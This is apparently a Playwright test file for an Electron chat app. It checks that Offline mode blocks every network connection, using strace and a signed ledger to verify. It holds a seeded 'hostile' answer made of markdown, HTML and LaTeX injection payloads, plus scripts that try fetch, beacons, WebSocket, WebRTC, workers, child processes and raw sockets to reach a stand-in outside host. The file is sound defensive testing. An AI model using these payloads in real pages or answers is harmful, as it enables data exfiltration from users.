import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import type { Page } from '@playwright/test'
import type { Api } from '../../preload/contract/contract.ts'
import { seedConversations } from '../bench/seed-conversation.ts'
import { tracedProgram, type OsNetwork } from '../fakes/os-network.ts'
import { answered, ask, expect, test, type Sextant } from './sextant.ts'

const root = path.resolve(import.meta.dirname, '../..')
const electron = path.join(
  root,
  'node_modules/electron/dist',
  readFileSync(path.join(root, 'node_modules/electron/path.txt'), 'utf8')
)

// Elsewhere there is no strace; what it counts here holds for the same code.
test.skip(process.platform !== 'linux', 'strace counts on Linux')
test.setTimeout(180_000)

const AWAY = 'https://203.0.113.7'

/** An answer that tries to make the window fetch something. */
const HOSTILE = `![chart](${AWAY}/chart.png) <img src="${AWAY}/raw.png"> [link](${AWAY}/) ![inline][ref]

[ref]: ${AWAY}/ref.png "chart"

<iframe src="${AWAY}/frame"></iframe> <link rel="stylesheet" href="${AWAY}/x.css"> <style>body { background: url(${AWAY}/b.png) }</style>

$$\\includegraphics{${AWAY}/formula.png} \\href{${AWAY}/}{x}$$

| a |
|---|
| ![cell](${AWAY}/cell.png) |

\`\`\`html
<script src="${AWAY}/code.js"></script>
\`\`\``

/** Puts a conversation with a hostile answer into an empty data folder. */
function seedHostileAnswer(data: string): void {
  const messages = [
    { role: 'user', text: 'Show me the chart.' },
    { role: 'assistant', text: HOSTILE }
  ] as const
  seedConversations(data, [{ title: 'Hostile', messages }])
}

type Launch = (options: { executable: string }) => Promise<Sextant>

/** The app under the operating system's eyes, in Offline. */
async function launchTraced(launch: Launch, data: string): Promise<Sextant & { network: () => Promise<OsNetwork> }> {
  const { executable, read } = tracedProgram(data, electron)
  const sextant = await launch({ executable })
  await sextant.page.evaluate(() => (globalThis as unknown as { api: Api }).api.network.change({ mode: 'offline' }))
  const network = async (): Promise<OsNetwork> => {
    await sextant.app.close()
    return read()
  }
  return { ...sextant, network }
}

const ledger = (page: Page) =>
  page.evaluate(async () => {
    const { api } = globalThis as unknown as { api: Api }
    const lines = await api.network.ledger({ filter: {}, before: null, limit: 500 })
    const check = await api.network.verifyLedger()
    return { lines: lines.ok ? lines.data.lines : [], check: check.ok ? check.data : null }
  })

test('the app in use opens no connection, from its start to its end', async ({ launch, data }) => {
  const { page, network } = await launchTraced(launch, data)
  await ask(page, 'What is a median?')
  await answered(page, 1)
  await ask(page, 'See ![a chart](https://203.0.113.7/chart.png) and [this](https://203.0.113.7/).')
  await answered(page, 2)
  for (const name of ['Search', 'Insights', 'Saved answers', 'Models', 'Providers', 'Backup & export', 'Settings'])
    await page.getByRole('button', { name, exact: true }).first().click()
  const outcome = await page.evaluate(async () => {
    const { api } = globalThis as unknown as { api: Api }
    const list = await api.models.list()
    const wanted = list.ok ? list.data.models.find((model) => model.state === 'available') : undefined
    if (wanted) await api.models.download({ id: wanted.id })
    return wanted?.id
  })
  expect(outcome).toBeDefined()
  await expect
    .poll(async () => (await ledger(page)).lines.filter((line) => line.rule === 'offline').length)
    .toBeGreaterThan(0)
  expect((await ledger(page)).check).toMatchObject({ broken: null })
  const { attempts, routeLookups } = await network()
  expect(attempts).toEqual([])
  expect(routeLookups).toEqual([])
})

test('an answer that holds images, frames, styles and links fetches nothing', async ({ launch, data }) => {
  seedHostileAnswer(data)
  const { page, network } = await launchTraced(launch, data)
  await page.getByRole('navigation').getByRole('button', { name: 'Hostile', exact: true }).click()
  await expect(page.getByRole('article', { name: 'Answer' })).toContainText('chart')
  await page.waitForLoadState('networkidle')
  const { attempts, routeLookups } = await network()
  expect(attempts).toEqual([])
  expect(routeLookups).toEqual([])
})

/** A server that speaks OpenAI's protocol: says numbered pieces for ever. */
async function endlessProvider(): Promise<{ server: Server; baseUrl: string; cut: () => boolean }> {
  let cut = false
  const server = createServer((request, response) => {
    if (request.url === '/v1/models')
      return void response.setHeader('content-type', 'application/json').end('{"data":[{"id":"endless"}]}')
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    let piece = 0
    const timer = setInterval(
      () => response.write(`data: {"choices":[{"delta":{"content":"piece ${piece++} "}}]}\n\n`),
      30
    )
    response.on('close', () => {
      cut = true
      clearInterval(timer)
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`, cut: () => cut }
}

/** What a watcher of the turn was told. */
interface Heard {
  text: string
  kept: string
  status: string
  error: string | null
}

test('going offline in the middle of an answer stops it at once and keeps what came', async ({ launch }) => {
  const { page } = await launch()
  const { server, baseUrl, cut } = await endlessProvider()
  try {
    await page.evaluate(async (address) => {
      const { api } = globalThis as unknown as { api: Api }
      const added = await api.providers.add({ preset: null, kind: 'openai-chat', name: 'Own server', baseUrl: address })
      if (!added.ok) throw new Error(added.error.code)
      const changed = await api.providers.change({ id: added.data.id, enabledModels: ['endless'] })
      if (!changed.ok) throw new Error(changed.error.code)
      const started = await api.turns.start({
        conversationId: null,
        parentId: null,
        attachments: [],
        text: 'Count.',
        model: `${added.data.id}:endless`
      })
      if (!started.ok) throw new Error(started.error.code)
      const heard: Heard = { text: '', kept: '', status: 'streaming', error: null }
      Object.assign(globalThis, { heard })
      api.watchTurn(started.data.turnId, (event) => {
        // What came before the watcher is in the snapshot.
        if (event.type === 'snapshot')
          heard.text = event.message.parts.map((part) => ('text' in part ? part.text : '')).join('')
        if (event.type === 'delta') heard.text += event.text
        if (event.type !== 'end') return
        heard.kept = event.message.parts.map((part) => ('text' in part ? part.text : '')).join('')
        heard.status = event.message.status
        heard.error = event.message.error?.code ?? null
      })
    }, baseUrl)
    const last = () => page.evaluate(() => (globalThis as unknown as { heard: Heard }).heard)
    await expect.poll(async () => (await last()).text.length).toBeGreaterThan(60)
    // The person's own server is let through in Offline, unless that is forbidden too.
    await page.evaluate(() => (globalThis as unknown as { api: Api }).api.network.change({ mode: 'offline' }))
    const before = (await last()).text
    await expect.poll(async () => (await last()).text.length).toBeGreaterThan(before.length)
    await page.evaluate(() => (globalThis as unknown as { api: Api }).api.network.change({ loopbackOffline: false }))
    await expect.poll(async () => (await last()).status).toBe('failed')
    const { error, text, kept } = await last()
    expect(error).toBe('went-offline')
    expect(kept).toBe(text)
    expect(text).toBe(Array.from({ length: text.match(/piece/g)?.length ?? 0 }, (_, n) => `piece ${n} `).join(''))
    await expect.poll(cut).toBe(true)
    const { lines } = await ledger(page)
    expect(lines.find((line) => line.purpose === 'completion')).toMatchObject({
      verdict: 'allowed',
      rule: 'loopback',
      end: { outcome: 'stopped' }
    })
  } finally {
    server.closeAllConnections()
    server.close()
  }
})

test('no thread, utility process or program that the app starts gets round the guard', async ({ launch, data }) => {
  const { app, page, network } = await launchTraced(launch, data)
  await page.evaluate(() =>
    (globalThis as unknown as { api: Api }).api.network.change({ mode: 'offline', loopbackOffline: false })
  )
  // The processes and threads of the app's own are at work: the model's, the counter's, the database's.
  await ask(page, 'What is a median?')
  await answered(page, 1)
  const outcomes = await app.evaluate(({ utilityProcess, app: electronApp }, code) => {
    const { Worker } = process.getBuiltinModule('node:worker_threads')
    const { spawn } = process.getBuiltinModule('node:child_process')
    const { register } = process.getBuiltinModule('node:module')
    const { writeFileSync } = process.getBuiltinModule('node:fs')
    const file = `${electronApp.getPath('userData')}/reaches-out.cjs`
    writeFileSync(file, code)
    const ways: Record<string, () => unknown> = {
      'thread of a text': () => new Worker(code, { eval: true }),
      'thread of a file': () => new Worker(file),
      'utility process': () => utilityProcess.fork(file),
      'own program': () => spawn(process.execPath, [file], { env: { ...process.env, ELECTRON_RUN_AS_NODE: '1' } }),
      loader: () => register(`data:text/javascript,${encodeURIComponent(code)}`),
      binding: () => (process as unknown as { binding: (name: string) => unknown }).binding('tcp_wrap')
    }
    return Object.entries(ways).map(([name, way]) => {
      try {
        way()
        return [name, 'open']
      } catch (error) {
        return [name, String((error as { code?: unknown }).code)]
      }
    })
  }, "require('node:net').connect(443, '203.0.113.7').on('error', () => 0)")
  expect(outcomes.filter(([, outcome]) => outcome !== 'network-refused')).toEqual([])
  const { lines, check } = await ledger(page)
  expect(check).toMatchObject({ broken: null })
  const refused = lines.filter((line) => line.rule === 'outside-the-gate').map((line) => line.host)
  expect(refused).toEqual(
    expect.arrayContaining([
      'thread from a text',
      'thread reaches-out.cjs',
      'binding tcp_wrap',
      expect.stringMatching(/^program .*electron$/),
      expect.stringMatching(/^program .*reaches-out\.cjs$/)
    ])
  )
  const { attempts, toThisMachine, routeLookups, sockets } = await network()
  // Chromium asks datagram sockets for the network cards, and never points or sends them anywhere; the two debuggers by
  // which this test drives the window listen.
  expect({ attempts, toThisMachine, routeLookups, tcp: sockets.tcp }).toEqual({
    attempts: [],
    toThisMachine: [],
    routeLookups: [],
    tcp: 2
  })
})

test('a page that was taken over can not break out', async ({ launch, data }) => {
  const { app, page, network } = await launchTraced(launch, data)
  const before = page.url()
  await page.evaluate(breakOut)
  // Below the page's policy too: what Chromium would do with it if there were none.
  await app.evaluate(async ({ BrowserWindow }) => {
    const window = new BrowserWindow({ show: false, webPreferences: { sandbox: true } })
    const page = `<link rel="dns-prefetch" href="//prefetch.example.com"><link rel="preconnect" href="https://203.0.113.7">
      <link rel="stylesheet" href="https://203.0.113.7/x.css"><img src="https://203.0.113.7/x.png"><iframe src="https://203.0.113.7/"></iframe>
      <style>@font-face { font-family: x; src: url(https://203.0.113.7/x.woff2) } body { font-family: x; background: url(https://203.0.113.7/b.png) }</style>
      <script type="speculationrules">{"prerender": [{"source": "list", "urls": ["https://203.0.113.7/p"]}]}</script>
      <form id="form" action="https://203.0.113.7/" method="post"></form><p>text</p>`
    await window.loadURL(`data:text/html,${encodeURIComponent(page)}`).catch(() => undefined)
    const reach = `
      new WebSocket('wss://203.0.113.7/'); new EventSource('https://203.0.113.7/'); navigator.sendBeacon('https://203.0.113.7/', 'x')
      fetch('https://203.0.113.7/').catch(() => 0); try { new WebTransport('https://203.0.113.7:4433/') } catch {}
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:203.0.113.7:3478' }, { urls: 'stun:stun.example.com' },
        { urls: 'turn:203.0.113.7:3478?transport=tcp', username: 'a', credential: 'b' }] })
      peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))
      new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(0) })`
    await window.webContents.executeJavaScript(reach)
    const refused = new Promise((resolve) => window.webContents.once('did-fail-load', resolve))
    await window.webContents.executeJavaScript(`document.getElementById('form').submit()`)
    await refused
    window.destroy()
  })
  expect(page.url()).toBe(before)
  const { lines } = await ledger(page)
  expect(lines.some((line) => line.rule === 'page' && line.host.startsWith('203.0.113.7'))).toBe(true)
  const { attempts } = await network()
  expect(attempts).toEqual([])
})

/** Everything a script can do to reach another machine. Runs in the page. */
async function breakOut(): Promise<void> {
  const away = 'https://203.0.113.7/'
  const attempt = (work: () => unknown): void => {
    try {
      void Promise.resolve(work()).catch(() => undefined)
    } catch {
      // refused
    }
  }
  const add = (tag: string, attributes: Record<string, string>): HTMLElement => {
    const element = Object.assign(document.createElement(tag), {})
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  attempt(() => fetch(away))
  attempt(() => navigator.sendBeacon(away, 'x'))
  attempt(() => new WebSocket('wss://203.0.113.7/'))
  attempt(() => new EventSource(away))
  attempt(() => new WebTransport('https://203.0.113.7:4433/'))
  attempt(() => window.open(away))
  attempt(() => import(/* @vite-ignore */ `${away}x.js`))
  attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch('${away}')`]))))
  attempt(() => navigator.serviceWorker.register(`${away}sw.js`))
  // The slowest of all: when every way to a peer was tried, the others were long ago.
  const triedPeers = new Promise<void>((resolve) => {
    attempt(async () => {
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: 'stun:203.0.113.7:3478' }, { urls: 'stun:stun.example.com' }]
      })
      peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && resolve())
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
    })
  })
  for (const [tag, attributes] of [
    ['img', { src: away }],
    ['iframe', { src: away }],
    ['object', { data: away }],
    ['embed', { src: away }],
    ['video', { src: away }],
    ['link', { rel: 'dns-prefetch', href: '//prefetch.example.com' }],
    ['link', { rel: 'preconnect', href: away }],
    ['link', { rel: 'prefetch', href: away }],
    ['link', { rel: 'stylesheet', href: away }],
    ['link', { rel: 'icon', href: away }],
    ['div', { style: `background: url(${away})` }]
  ] as const)
    attempt(() => add(tag, attributes))
  const form = add('form', { action: away, method: 'post' }) as HTMLFormElement
  attempt(() => form.submit())
  attempt(() => add('a', { href: away, ping: away }).click())
  attempt(() => (location.href = away))
  await triedPeers
}
